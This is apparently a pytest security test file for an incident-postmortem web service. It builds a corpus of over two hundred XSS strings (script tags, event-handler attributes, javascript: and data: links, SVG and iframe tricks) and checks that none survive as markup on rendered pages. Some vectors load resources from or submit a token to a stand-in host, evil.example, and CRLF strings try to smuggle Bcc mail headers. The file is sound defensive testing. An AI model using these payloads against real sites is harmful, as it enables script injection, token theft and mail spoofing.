"""What people write never becomes markup of ours: two hundred hostile strings in a ticket, looked for on every page; in
the subject of a mail; in the address of a link."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from service.followup.notify import message
from service.followup.report import compute
from service.store import migrate
from service.store.database import Database
from service.web.markdown import ATTRIBUTES, TAGS
from service.web.page import TEMPLATES
from service.web.report_page import render_report_html
from tests.example import TEXTS
from tests.hands import desk_closed, finish, incident, made, story
from tests.report_example import EXAMPLE
from tests.report_facts import facts, item
from tests.security_hands import bearer, everything
from tests.world import World

RUN = "alert('pwn')"
#: what would run if it were taken for markup; each in eight surroundings
VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src=//evil.example/pwn.js>{RUN}</sCrIpT >",
    f"<img src=x onerror={RUN}>",
    f"<img/src=`x`onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<body onload="{RUN}">',
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<math href=javascript:{RUN}>pwn</math>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<form action=javascript:{RUN}><button>pwn</button></form>",
    "<form action=//evil.example/pwn><input name=token></form>",
    f"<a href=javascript:{RUN}>pwn</a>",
    "<base href=//evil.example/pwn>",
    "<meta http-equiv=refresh content='0;url=//evil.example/pwn'>",
    "<link rel=stylesheet href=//evil.example/pwn.css>",
    "<style>@import '//evil.example/pwn';</style>",
    "<div style=background:url(//evil.example/pwn)>pwn</div>",
    f"[pwn](javascript:{RUN})",
    f"[pwn](JaVa\tScRiPt:{RUN})",
    f"[pwn](data:text/html,{RUN})",
    f"[pwn](vbscript:{RUN})",
    "![pwn](https://evil.example/pwn.png)",
    f"<javascript:{RUN}>",
    f"[pwn]: javascript:{RUN}",
    '" onmouseover="pwn" x="',
    "' onmouseover='pwn' x='",
)
AROUND = (
    "{}",
    "**{}**",
    "`code` {}",
    "{} `code",
    '"><{}',
    "--><!-- {}",
    "</textarea></title></style>{}",
    "\\{}&lt;",
)
_ALL = (around.replace("{}", vector) for vector, around in itertools.product(VECTORS, AROUND))
CORPUS = [words.replace("pwn", f"pwn{number}x") for number, words in enumerate(_ALL)]
#: without those that hide in a ticket all that follows them
OPEN = [words for words in CORPUS if "<!--" not in words]


class Markup(HTMLParser):
    """The tags and attributes of a page, and every value that is not plain text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.values: set[tuple[str, str, str]] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.values |= {(tag, name, value or "") for name, value in attrs}


def ours() -> Markup:
    """What our own templates and drawings hold, and the clean-up of Markdown lets through."""
    sources = [re.sub(r"\{[{%#].*?[}%#]\}", "", file.read_text("utf-8")) for file in TEMPLATES.glob("*.html")]
    drawn = re.findall(r"<svg.*?</svg>", render_report_html(EXAMPLE), re.DOTALL)  # of plain words and figures
    found = Markup("".join([*sources, *drawn]))
    found.tags |= set(TAGS)
    found.attributes |= {(tag, name) for tag, names in ATTRIBUTES.items() for name in names} | {("a", "rel")}
    return found


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    """Every page of an installation whose tickets, people and issues are hostile."""
    folder: Path = tmp_path_factory.mktemp("hostile")
    database = Database(f"sqlite:///{folder}/afterword.db")
    migrate.upgrade(database)
    with story(database, folder, fitting=False) as world:
        tell(world)
        answers = everything(world, bearer(world))
        yield {path: answer.text for path, answer in answers.items() if answer.mimetype == "text/html"}
    database.close()


def tell(world: World) -> None:
    lines = "\n".join(f"- 14:{number % 60:02} UTC {words}" for number, words in enumerate(OPEN))
    items = "\n".join(f"- [ ] Mend {words} (owner: {OPEN[-number]})" for number, words in enumerate(OPEN[:60]))
    text = f"{OPEN[0]}\n\n## Impact\n" + "\n\n".join(OPEN)
    text += f"\n\n## Timeline\n{lines}\n\n## Root cause\n| a | b |\n|---|---|\n"
    text += "\n".join(f"| {words.replace('|', '')} | x |" for words in OPEN)
    text += f"\n\n## Action items\n{items}\n\n{CORPUS[5]}\n"
    ticket = incident(world, text, f"Slow {CORPUS[2]}", labels=["incident", "<img src=x onerror=pwn>"])
    for words in CORPUS[:40]:
        world.github.comment(ticket, f"/timeline {words}", author="sam")
        world.github.comment(ticket, words, author="sam")
    world.github.close(ticket)
    desk_closed(world, "\n".join(CORPUS) + "\n\nh2. Action items\n* Mend payment\n", f"Late {CORPUS[4]}")
    finish(world)
    world.sync()
    world.later(hours=1)
    for number, issue in enumerate(made(world)[:6]):
        world.github.edit(issue, title=f"Renamed {CORPUS[number]}")
        world.github.comment(issue, CORPUS[number + 20], author="alex")
    for issue in made(world)[:3]:
        world.github.close(issue, "not_planned", by="alex")
    world.later(minutes=5)
    world.sync()
    edit = {"text": "\n\n".join(CORPUS), "by": CORPUS[2]}
    path = "/api/v1/postmortems/1/sections/lessons_learned"
    assert world.app.test_client().put(path, json=edit, headers=bearer(world)).status_code == 200


def test_the_corpus_is_large_and_reached_the_pages(pages):
    assert len(set(CORPUS)) >= 200
    assert len(pages) > 60
    assert len(set(re.findall(r"pwn\d+x", "".join(pages.values())))) == len(CORPUS)
    for path in ("/postmortems/1", "/actions", "/actions/1", "/actions/40", "/", "/postmortems/2"):
        assert "pwn" in pages[path], path


def test_no_hostile_text_became_a_tag_or_an_attribute_of_ours(pages):
    allowed = ours()
    for path, text in pages.items():
        found = Markup(text)
        assert found.tags <= allowed.tags, path
        assert found.attributes <= allowed.attributes, path


def test_hostile_text_in_an_attribute_is_no_address_and_no_handler(pages):
    plain = {("input", "value"), ("a", "title"), ("td", "title"), ("abbr", "title")}
    for path, text in pages.items():
        for tag, name, value in Markup(text).values:
            if name in ("href", "src", "action", "formaction"):
                assert re.match(r"https?://|mailto:|/(?!/)|#", value), (path, value)
            if name == "action" or tag in ("link", "img", "form"):
                assert not value.startswith(("http", "//")), (path, value)
            if "pwn" in value and name != "href":
                assert (tag, name) in plain, (path, tag, name, value)


def test_what_a_page_loads_by_itself_is_ours(pages):
    for path, text in pages.items():
        for tag, _, value in {one for one in Markup(text).values if one[:2] in {("link", "href"), ("use", "href")}}:
            assert value.startswith("/static/" if tag == "link" else "#"), path


HEADERS = ["x\r\nBcc: everybody@example.org", "x\nSubject: y", "x\r\n\r\n<html>", "\u2028Bcc: z"]


@pytest.mark.parametrize("words", HEADERS)
def test_no_text_of_a_ticket_begins_another_header_of_a_mail(words):
    report = compute(facts(item(1, text=words, owner=words, reason=words, word=words, incident_title=words)))
    title = message(report, TEXTS).title
    assert len(title.splitlines()) == 1
    assert "Bcc" not in title
